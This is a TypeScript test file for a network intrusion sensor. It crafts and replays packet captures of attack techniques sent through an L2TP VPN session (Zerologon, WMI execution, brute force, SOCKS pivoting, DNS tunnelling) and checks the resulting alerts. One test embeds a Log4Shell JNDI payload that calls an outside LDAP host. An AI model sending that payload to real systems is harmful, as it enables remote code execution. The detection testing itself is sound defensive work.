/**
 * Six techniques that the sensor is there to find, each from the bytes of a capture to the alert that names it: recorded where a
 * recording shows it, otherwise made by peers that talk through an L2TP session, and written to a file first.
 */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import type { EventDocument } from '../../src/events/fields.ts'
import { be16, concat, fromHex, utf8 } from '../support/craft.ts'
import { bind, bindAck, request, response } from '../support/dcerpc.ts'
import { pcapFile } from '../support/pcap.ts'
import { replayEvents } from '../support/replay.ts'
import { CLIENT_IP, SERVER_IP, Talk } from '../track/inner-talk.ts'
import { packetsOf } from '../track/recorded.ts'

const PCAPS = join(import.meta.dirname, '../../pcaps')

let folder: string

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'borescope-techniques-'))
})

afterAll(() => rmSync(folder, { recursive: true }))

/** The packets of a conversation as a file. */
function written(name: string, play: (talk: Talk) => void): string {
  const talk = new Talk()
  play(talk)
  const path = join(folder, `${name}.pcap`)
  writeFileSync(path, pcapFile({ packets: talk.peers.run.packets }))
  return path
}

/** The alerts about a capture that name a technique or one of its sub-techniques. */
async function alertsOf(path: string, technique: string): Promise<EventDocument[]> {
  const events = await replayEvents(path, { secrets: ['tunnelsecret'] })
  return events.filter(
    (event) => event['event.action'] === 'alert.raised' && event['threat.technique.id']?.includes(technique),
  )
}

const INTERFACES = {
  level1Login: 'f309ad18-d86a-11d0-a075-00c04fb68820',
  services: '9556dc99-828c-11cf-a37e-00aa003240c7',
  netlogon: '12345678-1234-abcd-ef00-01234567cffb',
}

/** wmiexec: a login to WMI, then Win32_Process.Create by ExecMethod. */
function wmi(talk: Talk): void {
  const connection = talk.tcp(49_700)
  connection.say('client', bind([{ interface: INTERFACES.level1Login, version: 0 }])).say('server', bindAck([[0, 0]]))
  connection.say('client', request(6, new Uint8Array(64), { callId: 2, object: INTERFACES.level1Login }))
  connection.say('server', response(new Uint8Array(64), { callId: 2 }))
  const second = talk.tcp(49_700, 50_001)
  second.say('client', bind([{ interface: INTERFACES.services, version: 0 }])).say('server', bindAck([[0, 0]]))
  second.say('client', request(24, new Uint8Array(200), { callId: 3, object: INTERFACES.services }))
  second.say('server', response(new Uint8Array(64), { callId: 3 }))
}

/** Zerologon: NetrServerAuthenticate3 with a credential of zeros, over and over. */
function zerologon(talk: Talk): void {
  const connection = talk.tcp(49_701)
  connection.say('client', bind([{ interface: INTERFACES.netlogon }])).say('server', bindAck([[0, 0]]))
  for (let i = 0; i < 25; i++) {
    connection.say('client', request(26, new Uint8Array(120), { callId: 2 + i }))
    connection.say('server', response(fromHex('0000000000000000 00000000 220000c0'), { callId: 2 + i }))
  }
}

function question(name: string, id: number): Uint8Array {
  const labels = concat(...name.split('.').map((label) => concat(Uint8Array.of(label.length), utf8(label))))
  return concat(be16(id), fromHex('0100 0001 0000 0000 0000'), labels, fromHex('00 0010 0001'))
}

/** iodine and its kind: a file leaves in the names of questions. */
function dnsTunnel(talk: Talk, names: number): void {
  for (let i = 0; i < names; i++) {
    const data = i.toString(16).padStart(4, '0').repeat(12)
    talk.udp('client', question(`${data}.t.example.com`, i), 53, 40_000 + i)
    talk.peers.wait(0.5)
  }
}

const ANSWER = 'HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok'

describe('T1190, an exploit against what faces the public', () => {
  test('attributes made to break the parser of an L2TP server (recorded)', async () => {
    const alerts = await alertsOf(join(PCAPS, 'synth-attacks.pcap'), 'T1190')
    const about = alerts.filter((alert) => alert['rule.name'] === 'L2TP attribute that attacks a parser')
    expect(about.map((alert) => alert['alert.entity'])).toContain('10.99.0.66, 10.99.0.1, l2tp.avp_length')
  })

  test('Log4Shell in a request from inside a session', async () => {
    const path = written('log4shell', (talk) => {
      const path = `/?x=${'$'}{jndi:ldap://192.0.2.66/a}`
      talk.tcp(8080).say('client', `GET ${path} HTTP/1.1\r\nHost: app.example\r\n\r\n`).say('server', ANSWER)
    })
    const [alert] = await alertsOf(path, 'T1190')
    expect(alert).toMatchObject({ 'rule.name': 'Web request in the shape of an attack', 'source.ip': CLIENT_IP })
  })
})

test('T1047, Windows Management Instrumentation: a login to WMI, and a method that is run', async () => {
  const alerts = await alertsOf(written('wmi', wmi), 'T1047')
  expect(alerts.map((alert) => [alert['rule.level'], alert['rule.name']])).toEqual([
    ['medium', 'WMI login from a VPN session'],
    ['high', 'Method run over WMI from a VPN session'],
  ])
})

describe('T1110, brute force', () => {
  test('of a VPN account until its password is found (recorded)', async () => {
    const alerts = await alertsOf(join(PCAPS, 'l2tp-bruteforce-mschapv2.pcap'), 'T1110')
    expect(alerts.map((alert) => [alert['rule.name'], alert['alert.entity']])).toEqual([
      ['Password guessing against one VPN account', '10.99.0.66, alice'],
      ['VPN login succeeded after password guessing', '10.99.0.66, alice'],
      ['PPP login that can be cracked offline', '10.99.0.1, MS-CHAPv2'],
    ])
    expect(alerts[0]['threat.technique.subtechnique.id']).toEqual(['T1110.001'])
  })

  test('of an SSH server from inside a session (recorded)', async () => {
    const alerts = await alertsOf(join(PCAPS, 'l2tp-inner-attack.pcap'), 'T1110')
    expect(alerts.map((alert) => alert['rule.name'])).toContain('SSH login succeeded after guessing from a VPN session')
  })
})

test('T1210, an exploit against a service inside: Zerologon', async () => {
  const alerts = await alertsOf(written('zerologon', zerologon), 'T1210')
  expect(alerts).toHaveLength(1)
  expect(alerts[0]).toMatchObject({
    'rule.level': 'critical',
    'rule.name': 'Netlogon authentication tried over and over (Zerologon)',
    'alert.events': 20,
  })
})

/** The gateway's side asks a VPN client that serves as a proxy, over a connection that the client opened. */
function pivot(talk: Talk, granted: string): void {
  const connection = talk.tcp(8443, 50_003)
  connection.say('server', fromHex('05 01 00')).say('client', fromHex('05 00'))
  connection.say('server', fromHex('05 01 00 01 0a010101 01bd')).say('client', fromHex(granted))
}

describe('T1090, a proxy by SOCKS', () => {
  test('of OpenSSH, microsocks and Dante (recorded)', async () => {
    const path = join(folder, 'socks.pcap')
    writeFileSync(path, pcapFile({ packets: await packetsOf('socks/proxies.pcap') }))
    const alerts = await alertsOf(path, 'T1090')
    expect(alerts.map((alert) => [alert['rule.name'], alert['alert.entity']])).toEqual([
      ['SOCKS proxy used from a VPN session', '10.9.0.20, 10.9.0.10'],
    ])
    expect(alerts[0]['threat.technique.subtechnique.id']).toEqual(['T1090.001', 'T1090.002'])
    const passwords = await alertsOf(path, 'T1552')
    expect(passwords.map((alert) => alert['rule.name'])).toEqual(['SOCKS password in clear'])
  })

  test('at the VPN client, for somebody behind the gateway', async () => {
    const path = written('pivot', (talk) => pivot(talk, '05 00 00 01 00000000 0000'))
    const [alert, ...others] = await alertsOf(path, 'T1090')
    expect(others).toEqual([])
    expect(alert).toMatchObject({
      'rule.level': 'high',
      'rule.name': 'SOCKS proxy run by a VPN client',
      'source.ip': SERVER_IP,
      'destination.ip': CLIENT_IP,
    })
  })
})

test('T1090, a proxy: a connection asked for with CONNECT', async () => {
  const path = written('proxy', (talk) => {
    const connection = talk.tcp(3128)
    connection.say('client', 'CONNECT hidden.example:443 HTTP/1.1\r\nHost: hidden.example:443\r\n\r\n')
    connection.say('server', 'HTTP/1.1 200 Connection established\r\n\r\n')
  })
  const [alert, ...others] = await alertsOf(path, 'T1090')
  expect(others).toEqual([])
  expect(alert).toMatchObject({
    'rule.name': 'Proxy asked for a connection from a VPN session',
    'threat.technique.subtechnique.id': ['T1090.001', 'T1090.002'],
  })
})

describe('T1048, exfiltration over another protocol', () => {
  test('in the names of DNS questions', async () => {
    const alerts = await alertsOf(
      written('dns-tunnel', (talk) => dnsTunnel(talk, 150)),
      'T1048',
    )
    expect(alerts.map((alert) => alert['rule.name'])).toEqual(['Tunnel in DNS names from a VPN session'])
    expect(alerts[0]['threat.technique.subtechnique.id']).toContain('T1048.003')
  })

  test('by an upload after a scan (recorded)', async () => {
    const alerts = await alertsOf(join(PCAPS, 'l2tp-inner-attack.pcap'), 'T1048')
    expect(alerts.map((alert) => alert['rule.name'])).toEqual(['Upload after a scan from the same VPN session'])
  })
})

describe('what comes near is none of them', () => {
  test('some questions with long names, requests to a web server, one authentication to Netlogon, a proxy that refuses', async () => {
    const path = written('near', (talk) => {
      dnsTunnel(talk, 60)
      talk.tcp(8080).say('client', 'GET /index.html HTTP/1.1\r\nHost: app.example\r\n\r\n').say('server', ANSWER)
      const connection = talk.tcp(49_701, 50_002)
      connection.say('client', bind([{ interface: INTERFACES.netlogon }])).say('server', bindAck([[0, 0]]))
      connection.say('client', request(26, new Uint8Array(120), { callId: 2 })).say('server', response())
      pivot(talk, '05 02 00 01 00000000 0000')
    })
    for (const technique of ['T1190', 'T1047', 'T1110', 'T1210', 'T1090', 'T1048']) {
      expect(await alertsOf(path, technique), technique).toEqual([])
    }
  })
})
